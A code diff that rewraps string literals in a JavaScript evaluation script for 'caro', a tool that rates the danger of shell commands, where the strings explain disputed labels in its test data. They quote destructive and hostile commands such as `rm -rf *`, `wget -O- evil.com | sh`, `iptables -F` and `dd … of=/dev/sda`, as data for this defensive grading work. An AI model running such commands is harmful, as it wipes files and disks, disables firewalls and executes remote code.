@@ -13,9 +13,11 @@ const DEFAULT_DATA = fileURLToPath(new URL("../../shared/data/caro_safety_cases.
 const LEVELS = ["safe", "moderate", "high", "critical"];
 
 const SAME_WIPES =
-  "the data rates the same wipes `rm -rf .`, `rm -rf ..` and `rm -rf *` high; emptying the current or parent folder is high unless that folder is /, ~ or a system folder, where caro rates it critical from the cwd";
+  "the data rates the same wipes `rm -rf .`, `rm -rf ..` and `rm -rf *` high; emptying the current or parent folder " +
+  "is high unless that folder is /, ~ or a system folder, where caro rates it critical from the cwd";
 const TEMPORARY =
-  "a temporary folder: the data's own README says its engine over-matches `rm /tmp/x`, and it rates `rm -rf /tmp/cache` safe";
+  "a temporary folder: the data's own README says its engine over-matches `rm /tmp/x`, and it rates `rm -rf " +
+  "/tmp/cache` safe";
 
 /** Rows whose label caro judges wrong, and why. */
 export const DATA_FAULTS = {
@@ -34,7 +36,8 @@ export const DATA_FAULTS = {
     "the same pattern as `curl https://… | sh`, which the data rates high; without a URL it even downloads nothing",
   "wget -O- | sh": "the same pattern as `wget -O- evil.com | sh`, which the data rates high",
   "systemctl stop firewalld":
-    "stopping a firewall destroys nothing and is undone by starting it: high, as the data rates `ufw disable` and `iptables -F`",
+    "stopping a firewall destroys nothing and is undone by starting it: high, as the data rates `ufw disable` and " +
+    "`iptables -F`",
   "dd if=/dev/zero": "without of= dd writes to standard output: no file or disk is touched",
   "dd if=ubuntu.iso of=/dev/sdb bs=4M status=progress":
     "writes over the whole disk /dev/sdb; the data rates `dd … of=/dev/sda` critical",
@@ -65,7 +68,8 @@ async function main() {
   const data = process.argv[2] ?? DEFAULT_DATA;
   if (!existsSync(data)) {
     console.error(
-      `safety-eval: no labelled data at ${data}: pass the path of caro_safety_cases.tsv (CI keeps it in ../shared/data)`,
+      `safety-eval: no labelled data at ${data}: pass the path of caro_safety_cases.tsv (CI keeps it in ` +
+        `../shared/data)`,
     );
     process.exit(2);
   }
